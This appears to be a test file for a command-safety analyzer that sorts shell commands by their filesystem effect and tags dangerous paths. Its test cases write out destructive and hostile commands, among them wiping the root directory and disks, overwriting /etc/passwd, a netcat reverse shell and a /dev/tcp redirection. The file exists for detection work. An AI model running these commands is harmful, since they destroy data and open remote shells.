"""The filesystem analyzer: path semantics, per-tool operations, and output redirections."""

from __future__ import annotations

import shlex

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from interlock.model import Command, Effect, Tier
from interlock.parse.tools import Context
from interlock.parse.tools._registry import PROGRAMS
from interlock.parse.tools.fs import analyze, redirect_operation
from interlock.parse.tools.fs_paths import classify, scan

CTX = Context(shell=lambda text, cmd: [])


def run(text: str, **kw):
    argv = tuple(shlex.split(text))
    return analyze(Command(argv=argv, text=text, **kw), CTX)


def one(text: str, **kw):
    ops = run(text, **kw)
    assert len(ops) == 1, ops
    return ops[0]


# -- path semantics ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("word", "tag"),
    [
        ("/", "root-path"),
        ("//", "root-path"),
        ("/./", "root-path"),
        ("/*", "root-path"),
        ("/bin/..", "root-path"),
        ("/{*,.*}", "root-path"),
        ("/e*", "root-path"),
        ("/etc", "system-path"),
        ("/etc/*", "system-path"),
        ("/usr/local", "system-path"),
        ("/var/lib/*", "system-path"),
        ("/etc/nginx/nginx.conf", "system-file"),
        ("/etc/passwd", "critical-file"),
        ("/etc/sudoers.d/agent", "critical-file"),
        ("~", "home-path"),
        ("~/", "home-path"),
        ("$HOME", "home-path"),
        ("${HOME}/*", "home-path"),
        ("/home/alice", "home-path"),
        ("/Users/bob/", "home-path"),
        ("~/.ssh/authorized_keys", "credential-path"),
        ("/root/.aws/credentials", "credential-path"),
        ("~/.bashrc", "startup-file"),
        ("*", "wildcard"),
        (".", "wildcard"),
        ("..", "wildcard"),
        ("./*", "wildcard"),
        ("/tmp/*", "wildcard"),
        (".git", "git-dir"),
        ("sub/.git/", "git-dir"),
        ("$DIR/", "dynamic-target"),
        ("$(cat list)", "dynamic-target"),
        ("/dev/sda", "block-device"),
        ("/dev/nvme0n1p1", "block-device"),
        ("/dev/mapper/vg-root", "block-device"),
    ],
)
def test_a_dangerous_path_carries_its_tag(word, tag):
    assert tag in classify(word).tags


@pytest.mark.parametrize(
    "word", ["build", "./build", "node_modules/", "a/b/../c", "/tmp/x", "build/*"]
)
def test_project_and_tmp_paths_are_local(word):
    info = classify(word)
    assert info.local and not info.tags


@pytest.mark.parametrize(
    "word", ["/opt/app", "~/notes", "../sibling", "/srv/www", "~/build", "~/projects/x"]
)
def test_paths_outside_the_project_are_not_local(word):
    assert not classify(word).local


@pytest.mark.parametrize(
    "word",
    ["~/projects/x/node_modules", "~/code/app/target/debug", "/home/al/w/app/dist", "~/.cache/pip",
     "~/.m2/repository", "~/Library/Caches/pip"],
)  # fmt: skip
def test_build_and_cache_dirs_under_home_are_local(word):
    assert classify(word).local


@pytest.mark.parametrize(
    ("word", "tag"),
    [("/var/lib/postgresql", "data-dir"), ("/var/lib/mysql/*", "data-dir"),
     ("/opt/homebrew/var/postgresql@14", "data-dir"), ("/var/lib/etcd/member", "data-file"),
     ("/data/db", "data-dir")],
)  # fmt: skip
def test_database_data_directories_are_tagged(word, tag):
    assert tag in classify(word).tags


def test_a_find_exec_target_is_filtered_only_when_find_narrows_the_match():
    wide = Command(argv=("rm", "./{}"), via=("find",), text="find . -exec rm {} +")
    narrow = Command(argv=("rm", "./{}"), via=("find",), text="find . -name '*.o' -exec rm {} +")
    assert "wildcard" in classify("./{}", wide).tags
    assert "filtered" in classify("./{}", narrow).tags


def test_find_exec_chmod_counts_as_recursive():
    cmd = Command(
        argv=("chmod", "644", "/etc/{}"), via=("find",), text="find /etc -exec chmod 644 {} +"
    )
    (op,) = analyze(cmd, CTX)
    assert "recursive" in op.tags


def test_relative_paths_resolve_against_the_directory_changed_into():
    cmd = Command(argv=("rm", "-rf", "*"), cwd="/etc")
    assert "system-path" in classify("*", cmd).tags
    assert "dynamic-target" in classify("x", Command(argv=("rm",), cwd="$WORK")).tags


def test_a_remote_command_leaves_the_tier_to_the_resolver():
    op = one("rm -rf build", host="web-1")
    assert op.targets[0].tier is Tier.UNKNOWN
    assert op.targets[0].get("host") == "web-1"


def test_scan_expands_abbreviated_long_options_and_permutes():
    s = scan(("build", "--rec", "-f", "--", "-x"), ("--recursive", "--force"))
    assert s.flags == {"--recursive", "-f"}
    assert s.pos == ["build", "-x"]


# -- tools ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "action", "effect", "tags"),
    [
        ("rm -rf build", "delete", Effect.DESTROY, {"recursive", "force"}),
        ("rm build -R", "delete", Effect.DESTROY, {"recursive"}),
        ("rm --no-preserve-root -r /", "delete", Effect.DESTROY, {"no-preserve-root", "root-path"}),
        ("rm --help", "read", Effect.READ, set()),
        ("rmdir empty", "rmdir", Effect.WRITE, set()),
        ("shred -u key.pem", "shred", Effect.DESTROY, set()),
        ("truncate -s 0 app.log", "truncate", Effect.DESTROY, set()),
        ("truncate -s 10M app.img", "resize", Effect.WRITE, set()),
        ("find . -name '*.o' -delete", "delete", Effect.DESTROY, {"filtered"}),
        ("find / -delete", "delete", Effect.DESTROY, {"root-path"}),
        ("find . -type f", "read", Effect.READ, set()),
        ("cp a.txt b.txt", "copy", Effect.WRITE, set()),
        ("cp shadow /etc/shadow", "copy", Effect.DESTROY, {"critical-file"}),
        ("cp tool /usr/local/bin/", "copy", Effect.WRITE, {"system-file"}),
        ("mv /etc /tmp/etc", "move", Effect.DESTROY, {"system-path"}),
        ("mv a b", "move", Effect.WRITE, set()),
        ("ln -sf x /etc/passwd", "link", Effect.DESTROY, {"critical-file", "force"}),
        ("ln -s x link", "link", Effect.WRITE, set()),
        ("chmod -R 777 /", "chmod", Effect.WRITE, {"recursive", "world-writable", "root-path"}),
        ("chmod -x script.sh", "chmod", Effect.WRITE, set()),
        ("chown -R me: /usr", "chown", Effect.WRITE, {"recursive", "system-path"}),
        ("chattr -i /etc/resolv.conf", "chattr", Effect.WRITE, {"system-file"}),
        ("sed -i s/a/b/ f.txt", "edit", Effect.WRITE, set()),
        ("sed -i '' -e s/a/b/ f.txt", "edit", Effect.WRITE, set()),
        ("sed -n 1p f.txt", "read", Effect.READ, set()),
        ("tee -a /etc/hosts", "append", Effect.WRITE, {"system-file"}),
        ("tee /etc/hosts", "overwrite", Effect.DESTROY, {"system-file"}),
        ("rsync -a --delete src/ /", "sync", Effect.DESTROY, {"delete", "root-path"}),
        ("rsync -an --delete src/ dst/", "sync", Effect.READ, {"dry-run"}),
        ("tar -xzf a.tgz -C /", "extract", Effect.WRITE, {"root-path"}),
        ("tar xzf a.tgz", "extract", Effect.WRITE, set()),
        ("tar tzf a.tgz", "read", Effect.READ, set()),
        ("unzip -l a.zip", "read", Effect.READ, set()),
        ("dd if=/dev/zero of=/dev/sda", "overwrite", Effect.DESTROY, {"block-device"}),
        ("dd if=/dev/sda of=disk.img", "overwrite", Effect.WRITE, set()),
        ("dd if=/dev/sda", "read", Effect.READ, set()),
        ("mkfs.ext4 /dev/sdb1", "format", Effect.DESTROY, {"block-device"}),
        ("mkfs.vfat -F 32 /dev/sdc1", "format", Effect.DESTROY, {"block-device"}),
        ("wipefs /dev/sdb", "read", Effect.READ, set()),
        ("wipefs -a /dev/sdb", "wipe", Effect.DESTROY, {"block-device"}),
        ("fdisk -l", "read", Effect.READ, set()),
        ("sgdisk -Z /dev/sda", "partition", Effect.DESTROY, {"block-device"}),
        ("parted /dev/sda print", "read", Effect.READ, set()),
        ("cryptsetup luksFormat /dev/sdb", "luksformat", Effect.DESTROY, {"block-device"}),
        ("lvremove -y vg/lv", "remove-volume", Effect.DESTROY, set()),
        ("zpool destroy tank", "destroy", Effect.DESTROY, set()),
        ("zfs destroy tank/a@s1", "destroy", Effect.DESTROY, {"snapshot"}),
        ("zfs list", "read", Effect.READ, set()),
        ("mount", "read", Effect.READ, set()),
        ("umount /mnt", "umount", Effect.WRITE, set()),
        ("ls -la", "read", Effect.READ, set()),
        ("nc -e /bin/sh 1.2.3.4 9", "exec", Effect.UNKNOWN, {"remote-code"}),
        ("source ./setup.sh", "source", Effect.UNKNOWN, set()),
        ("source .venv/bin/activate", "read", Effect.READ, set()),
        ("yq -i .a=1 x.yaml", "edit", Effect.WRITE, set()),
    ],
)
def test_each_tool_answers_the_operation_that_matters(text, action, effect, tags):
    op = one(text)
    assert (op.family, op.action, op.effect) == ("filesystem", action, effect)
    assert tags <= op.tags, op.tags


def test_awk_system_calls_are_analyzed_as_shell():
    seen: list[str] = []
    ctx = Context(shell=lambda text, cmd: seen.append(text) or [])
    analyze(Command(argv=("awk", 'BEGIN{system("rm -rf /")}')), ctx)
    assert seen == ["rm -rf /"]


def test_tar_to_command_is_analyzed_as_shell():
    seen: list[str] = []
    ctx = Context(shell=lambda text, cmd: seen.append(text) or [])
    analyze(Command(argv=("tar", "-xf", "a.tar", "--to-command=sh x.sh")), ctx)
    assert seen == ["sh x.sh"]


def test_rsync_to_a_remote_path_targets_that_host():
    op = one("rsync -a --delete dist/ deploy@web-1:/srv/www")
    assert op.targets[0].get("host") == "web-1"
    assert op.targets[0].name == "/srv/www"


def test_every_registered_program_answers_at_least_one_operation():
    for program in PROGRAMS["fs"]:
        ops = analyze(Command(argv=(program,), text=program), CTX)
        assert ops and all(o.family == "filesystem" for o in ops), program


@settings(max_examples=300, deadline=None)
@given(
    st.sampled_from(sorted(PROGRAMS["fs"])),
    st.lists(
        st.sampled_from(
            [
                "-rf",
                "-R",
                "/",
                "*",
                "--",
                "-",
                "of=/dev/sda",
                "$X",
                "~",
                "-i",
                "x",
                "",
                "--delete",
                "-C",
                "=",
                "@",
            ]
        ),
        max_size=6,
    ),
)
def test_no_argument_list_makes_the_analyzer_fail(program, args):
    ops = analyze(Command(argv=(program, *args)), CTX)
    assert ops and not any("parse-error" in o.tags for o in ops)


# -- redirections --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("op", "path"),
    [
        (">", "/dev/null"),
        ("2>", "/dev/stderr"),
        (">&", "2"),
        (">&", "&1"),
        (">", "/dev/tty"),
        ("<", "in.txt"),
    ],
)
def test_redirections_that_go_nowhere_answer_none(op, path):
    assert redirect_operation(op, path, Command(argv=("echo",))) is None


@pytest.mark.parametrize(
    ("op", "path", "action", "effect", "tag"),
    [
        (">", "out.txt", "write", Effect.WRITE, None),
        (">>", "build.log", "append", Effect.WRITE, None),
        (">", "/etc/passwd", "overwrite", Effect.DESTROY, "critical-file"),
        (">>", "/etc/sudoers", "append", Effect.WRITE, "critical-file"),
        (">", "~/.bashrc", "overwrite", Effect.DESTROY, "startup-file"),
        (">>", "~/.ssh/authorized_keys", "append", Effect.WRITE, "credential-path"),
        ("&>", "/dev/sda", "overwrite", Effect.DESTROY, "block-device"),
        (">", "/dev/tcp/10.0.0.1/4444", "connect", Effect.UNKNOWN, "network"),
    ],
)
def test_redirections_to_files(op, path, action, effect, tag):
    result = redirect_operation(op, path, Command(argv=("echo",)))
    assert result is not None
    assert (result.action, result.effect) == (action, effect)
    assert tag is None or tag in result.tags


def test_a_redirection_into_the_project_is_local():
    result = redirect_operation(">", "out/report.txt", Command(argv=("echo",)))
    assert result is not None and result.targets[0].tier is Tier.LOCAL
